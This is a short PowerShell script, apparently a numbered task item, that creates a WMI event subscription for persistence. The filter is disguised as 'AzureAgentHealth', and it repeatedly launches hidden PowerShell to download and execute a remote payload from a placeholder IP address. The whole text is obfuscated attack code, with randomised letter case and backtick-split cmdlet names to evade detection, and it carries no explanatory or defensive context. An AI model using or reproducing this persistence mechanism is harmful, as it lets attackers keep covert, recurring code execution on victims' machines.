# tAsK 8955 v1
$FiLTEr = sEt-wM`I`in`StAn`Ce -nameSpACE rOOT\sUbScRiPtIoN -cLaSs __EvEnTfIlTeR -ARgUMENtS @{nAmE='AzureAgentHealth';eveNtnAmespaCe='root\cimv2';QuErYlAnGuAgE='WQL';quERY="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$CONsUMEr = sET-w`mI`iNsTaN`cE -NaMeSpAcE ROOT\SubsCRiPTion -class CoMmAnDlInEeVeNtCoNsUmEr -aRgUmEnTs @{NaMe='AzureAgentHealth';comManDLiNeTEMpLATe="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/payload.ps1')"}
SEt-`W`mi`in`StAnCe -nAmEsPaCe ROOt\SubScrIption -ClaSS __fILtERtOcoNSuMERbINDinG -ArgUMenTS @{fIlTeR=$FIlTER;CoNSUmER=$CoNSUmEr}
